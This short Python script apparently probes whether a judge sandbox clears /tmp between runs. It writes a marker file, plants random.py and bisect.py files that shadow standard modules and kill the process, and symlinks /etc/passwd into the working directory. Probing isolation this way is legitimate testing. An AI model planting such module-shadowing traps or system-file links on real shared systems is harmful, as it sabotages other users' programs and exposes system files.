# AC
# Leaves a file and a module for the next run; prints the right answer only if it found none.
import os
found = os.listdir("/tmp")
with open("/tmp/cf-attack-left", "w") as file: file.write("x")
with open("/tmp/random.py", "w") as file: file.write("import os; os._exit(9)")
with open("/tmp/bisect.py", "w") as file: file.write("import os; os._exit(9)")
os.symlink("/etc/passwd", "/tmp/main.py")
print(found or 7)
